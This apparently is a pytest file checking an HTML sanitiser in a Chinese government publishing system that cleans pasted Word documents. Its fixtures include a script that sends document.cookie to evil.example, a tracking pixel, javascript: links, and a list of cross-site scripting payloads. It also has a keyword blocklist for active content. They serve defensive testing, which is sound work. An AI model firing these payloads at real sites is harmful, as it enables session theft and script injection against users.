"""What people paste, and what becomes of it."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gongkai.publishing import actions
from gongkai.publishing.actions import Words
from gongkai.publishing.sanitising import behind_words, cleaned, from_plain, pictures_in, text_of

from .conftest import DAY, Office

WORD = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta charset=utf-8>
<style>p.MsoNormal{mso-style-parent:"";}</style><script>fetch('https://evil.example/'+document.cookie)</script>
<!--[if gte mso 9]><xml><w:WordDocument/></xml><![endif]--></head><body lang=ZH-CN>
<p class=MsoNormal align=center style='text-align:center;mso-hide:all'><b><span
lang=EN-US>通知<o:p></o:p></span></b></p> <p class=MsoNormal onclick="steal()">正文&nbsp;一<img width=1
height=1 src="https://track.example/p.gif?u=7"></p> <p class=MsoNormal><o:p>&nbsp;</o:p></p>
<table border=1><tr><td colspan=2 style="background:url(javascript:x)">甲</td><td>乙</td></tr></table>
<a href="javascript:alert(1)">点</a><a href="https://www.example.gov.cn/a">看</a>
<iframe src="https://evil.example"></iframe><form action=/x><input name=a></form></body></html>"""

_ACTIVE = (
    "script",
    "onerror",
    "onload",
    "style=",
    "data:",
    "//",
    "srcset",
    "background",
    "svg",
    "expression",
)


def test_pasted_from_word_only_structure_stays():
    found = cleaned(WORD)
    assert found.html.replace("\n", "").replace("> <", "><") == (
        '<p class="center"><strong>通知</strong></p><p>正文&nbsp;一</p>'
        '<table><tbody><tr><td colspan="2">甲</td><td>乙</td></tr></tbody></table>'
        '<a rel="noopener noreferrer">点</a>'
        '<a href="https://www.example.gov.cn/a" rel="noopener noreferrer">看</a>'
    )
    assert found.text == "通知\n正文 一\n甲 乙\n点看"
    assert (found.pictures_removed, found.active_removed) == (1, 2)


@pytest.mark.parametrize(
    "given",
    [
        "<script>x</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
        "<p style='x:expression(1)'>a</p>", "<a href='JaVaScRiPt:alert(1)'>a</a>",
        "<a href='data:text/html,x'>a</a>", "<math><mi xlink:href='javascript:1'>",
        "<img src='data:image/svg+xml,x'>", "<img src='//track.example/p'>", "<object data=x></object>",
        "<base href='https://evil.example/'>", "<noscript><img src=x></noscript>",
        "<p><![CDATA[<script>]]></p>", "<template><script>x</script></template>",
        "<link rel=stylesheet href=//x>", "<meta http-equiv=refresh content='0'>",
        "<img src='attachment:1' onload=x srcset='https://x'>", "<table background='https://x'><tr><td>1</table>",
    ],
)  # fmt: skip
def test_nothing_active_and_nothing_foreign_stays(given: str):
    safe = cleaned(given).html.lower()
    for bad in (
        "script",
        "onerror",
        "onload",
        "style=",
        "data:",
        "//",
        "srcset",
        "background",
        "svg",
        "expression",
    ):
        assert bad not in safe, safe


def test_own_pictures_stay():
    found = cleaned('<p><img src="attachment:12" alt="造林现场" width="900"></p>')
    assert found.html == '<p><img src="attachment:12" alt="造林现场"></p>'
    assert found.text == "造林现场"
    assert pictures_in(found.html) == {12}


def test_what_links_say_beside_their_words_is_told_for_the_gate():
    given = '<p><a href="mailto:a%40b.cn" title="13800001234">来信</a><a href="attachment:7">附件</a></p>'
    assert behind_words(cleaned(given).html) == ("mailto:a@b.cn", "13800001234")
    assert behind_words("") == ()


def test_plain_text_becomes_paragraphs():
    assert from_plain("一 < 二\n\n三") == "<p>一 &lt; 二</p><p>三</p>"
    assert text_of(from_plain("一 < 二\n三")) == "一 < 二\n三"


@given(st.text(alphabet="<>/=\"' abipx&;:()造", max_size=80))
def test_cleaning_twice_changes_nothing(text: str):
    once = cleaned(text)
    assert cleaned(once.html).html == once.html
    assert cleaned(once.html).text == once.text


@pytest.mark.django_db
def test_the_drafter_is_told_what_had_to_go(office: Office):
    made = office.must(
        actions.begin, office.drafter(), body_id=office.bodies["forestry"], kind="news",
        words=Words(title="现场会", html=WORD, formed_on=DAY),
    )  # fmt: skip
    assert (made.pictures_removed, made.active_removed) == (1, 2)
    assert "script" not in made.edition.html


@pytest.mark.django_db
def test_a_picture_that_is_not_among_the_files_is_refused(office: Office):
    edition = office.drafted(
        "news", Words(title="现场会", html='<img src="attachment:999">图', formed_on=DAY)
    )
    refused = office.do(actions.send_to_review, office.drafter(), edition_id=edition.pk)
    assert "重新插入" in str(refused.reason)
